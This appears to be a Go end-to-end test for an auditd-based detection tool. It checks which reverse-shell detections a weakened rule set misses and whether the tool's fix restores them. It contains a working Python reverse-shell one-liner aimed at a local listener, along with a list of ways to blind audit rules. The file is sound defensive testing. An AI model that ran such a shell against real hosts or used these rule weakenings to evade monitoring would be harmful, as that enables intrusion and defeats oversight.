//go:build e2e

package e2e

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// The detections that one reverse shell meets, with all audit rules: by its command line, by its connection, by its streams.
const (
	byCommand    = "522bc779-3764-4a74-ad02-8248e7e7a8c5"
	byConnection = "0f6a9f0e-3d0b-4f0c-9a35-6a1f3b1c7d02"
	byStreams    = "0f6a9f0e-3d0b-4f0c-9a35-6a1f3b1c7d01"
)

var everyOne = []string{byStreams, byConnection, byCommand}

// blinded are ways to weaken the largest shipped set of audit rules, and the detections that then miss the shell.
var blinded = []struct {
	name     string
	from, to string // from "": to comes before the set; "*": to is the set
	missed   []string
}{
	{"as shipped", "", "", nil},
	{"no rules", "*", "", everyOne},
	{"no executions", "-S execve,execveat -F key=auditpy_exec", "-S mkdir -F key=auditpy_exec", everyOne},
	{"32-bit executions only", "-a always,exit -F arch=b64 -S execve,execveat -F key=auditpy_exec", "", everyOne},
	{"no connections", "-S connect -F key", "-S bind -F key", []string{byStreams, byConnection}},
	{"no copies of descriptors", "-S dup2 -F a1<=2", "-S dup2 -F a1>=90 -F a1<=92", []string{byStreams}},
	{"people only", "-S execve,execveat -F key", "-S execve,execveat -F auid>=1000 -F auid!=-1 -F key", everyOne},
	{"connections of one user", "-S connect -F key", "-S connect -F uid=33 -F key", []string{byStreams, byConnection}},
	{"never before it", "", "-a never,exit -F arch=b64 -S execve,execveat\n", everyOne},
	{"a program left out", "", "-a never,exit -F arch=b64 -S connect -F exe=PYTHON\n", []string{byStreams, byConnection}},
	{"a type of records left out", "", "-a always,exclude -F msgtype=EXECVE\n", []string{byConnection, byCommand}},
	{"addresses left out", "", "-a always,exclude -F msgtype=SOCKADDR\n", []string{byStreams, byConnection}},
	{"processes left out", "", "-a never,task\n", everyOne},
}

// TestDoctor: on a real kernel, doctor names exactly the detections that miss an attack, and its fix brings them back.
func TestDoctor(t *testing.T) {
	dir := t.TempDir()
	log := startAuditd(t, dir, "ENRICHED")
	python, err := filepath.EvalSymlinks("/usr/bin/python3")
	if err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(dir, "doctor.yaml")
	write(t, config, fmt.Sprintf("state_dir: %q\nsource:\n  file: %q\nrules:\n  paths: []\nsinks:\n  syslog:\n    enabled: false\n", dir, log))
	for i, tt := range blinded {
		t.Run(tt.name, func(t *testing.T) {
			weak := strings.ReplaceAll(weakenedRules(t, tt.from, tt.to), "PYTHON", python)
			loadRules(t, dir, "-D\n"+weak)
			if got := told(t, config); !slices.Equal(got, sortedIDs(tt.missed)) {
				t.Errorf("doctor names %q, want %q", got, tt.missed)
			}
			if got := fired(t, dir, log, 2*i); !slices.Equal(got, without(everyOne, tt.missed)) {
				t.Errorf("the attack fires %q, want all but %q", got, tt.missed)
			}
			fix, err := exec.Command(binary, "doctor", "--fix", "-c", config).Output()
			if err != nil {
				t.Fatal(err)
			}
			loadRules(t, dir, "-D\n"+weak+"\n"+string(fix))
			if got := told(t, config); len(got) > 0 {
				t.Errorf("after the fix doctor names %q\n%s", got, fix)
			}
			if got := fired(t, dir, log, 2*i+1); !slices.Equal(got, sortedIDs(everyOne)) {
				t.Errorf("after the fix the attack fires %q\n%s", got, fix)
			}
		})
	}
}

func weakenedRules(t *testing.T, from, to string) string {
	t.Helper()
	var text string
	for _, name := range []string{"tier3.rules", "ia32.rules", "x86_64-tier3.rules"} {
		b, err := os.ReadFile("../../packaging/audit.rules.d/" + name)
		if err != nil {
			t.Fatal(err)
		}
		text += string(b)
	}
	switch {
	case from == "*":
		return to
	case from == "":
		return to + text
	case !strings.Contains(text, from):
		t.Fatalf("%q is not in the shipped rules", from)
	}
	return strings.ReplaceAll(text, from, to)
}

func loadRules(t *testing.T, dir, text string) {
	t.Helper()
	file := filepath.Join(dir, "weak.rules")
	write(t, file, text)
	sh(t, "auditctl", "-R", file)
}

// told are those of the three detections that doctor says to see less than they could.
func told(t *testing.T, config string) (ids []string) {
	t.Helper()
	out, err := exec.Command(binary, "doctor", "--json", "-c", config).Output()
	if exit := (*exec.ExitError)(nil); err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	var r struct {
		Detections []struct{ ID, Status string }
	}
	if err := json.Unmarshal(out, &r); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	for _, d := range r.Detections {
		if slices.Contains(everyOne, d.ID) {
			ids = append(ids, d.ID)
		}
	}
	return sortedIDs(ids)
}

func sortedIDs(ids []string) []string { return slices.Sorted(slices.Values(ids)) }

func without(all, some []string) []string {
	return sortedIDs(slices.DeleteFunc(slices.Clone(all), func(id string) bool { return slices.Contains(some, id) }))
}

// fired attacks once, and returns which of the three detections the audit log of it meets.
func fired(t *testing.T, dir, log string, n int) (ids []string) {
	t.Helper()
	before := len(read(log))
	reverseShell(t)
	mark := fmt.Sprintf("doctor-e2e-%d-done", n)
	sh(t, "auditctl", "-m", mark)
	eventually(t, "auditd writes what was recorded", func() bool { return strings.Contains(read(log)[before:], mark) })
	slice := filepath.Join(dir, "slice.log")
	write(t, slice, read(log)[before:])
	out, err := exec.Command(binary, "scan", "--format", "json", "--group", "rule", slice).Output()
	if exit := (*exec.ExitError)(nil); err != nil && (!errors.As(err, &exit) || exit.ExitCode() != 1) {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(out)) {
		var alert struct{ Rule struct{ ID string } }
		if err := json.Unmarshal([]byte(line), &alert); err != nil {
			t.Fatal(err)
		}
		if slices.Contains(everyOne, alert.Rule.ID) && !slices.Contains(ids, alert.Rule.ID) {
			ids = append(ids, alert.Rule.ID)
		}
	}
	return sortedIDs(ids)
}

// reverseShell is one: its listener tells the shell to end.
func reverseShell(t *testing.T) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		if c, err := l.Accept(); err == nil {
			fmt.Fprintln(c, "exit")
			defer c.Close()
			_, _ = c.Read(make([]byte, 1)) // until the shell has ended
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	sh(t, "/usr/bin/python3", "-c", fmt.Sprintf(
		`import socket,os;s=socket.socket();s.connect(("127.0.0.1",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl("/bin/sh","sh")`, port))
}

// TestCanary: with a real auditd and a real rsyslogd, the canary's alert is proved to have come to both sinks; without audit
// rules it is told that it was not recorded.
func TestCanary(t *testing.T) {
	dir := t.TempDir()
	log := startAuditd(t, dir, "ENRICHED")
	r := startRsyslog(t, dir)
	config := filepath.Join(dir, "canary.yaml")
	state, alerts := filepath.Join(dir, "state"), filepath.Join(dir, "alerts.json")
	write(t, config, fmt.Sprintf("state_dir: %q\nsource:\n  kind: file\n  file: %q\nrules:\n  paths: []\nsinks:\n  stdout:\n    enabled: false\n  file:\n    enabled: true\n    path: %q\n  syslog:\n    address: %q\n",
		state, log, alerts, r.socket))
	d := start(t, binary, "run", "-c", config)
	eventually(t, "the agent reads", func() bool { return d.stderr.contains("reading audit records") })
	out := sh(t, binary, "doctor", "--canary", "-c", config)
	for _, want := range []string{"canary file " + alerts + ": the alert was read in the file", "canary syslog unix " + r.socket + ": the syslog daemon's socket took the alert"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%s", want, out)
		}
	}
	eventually(t, "rsyslogd writes it", func() bool { return strings.Contains(read(r.file), "auditpy-canary-") })
	sh(t, "auditctl", "-D")
	lost, err := exec.Command(binary, "doctor", "--canary", "--wait", "500ms", "-c", config).CombinedOutput()
	if exit := (*exec.ExitError)(nil); !errors.As(err, &exit) || exit.ExitCode() != 1 || !strings.Contains(string(lost), "it was not recorded") {
		t.Errorf("%v\n%s", err, lost)
	}
}
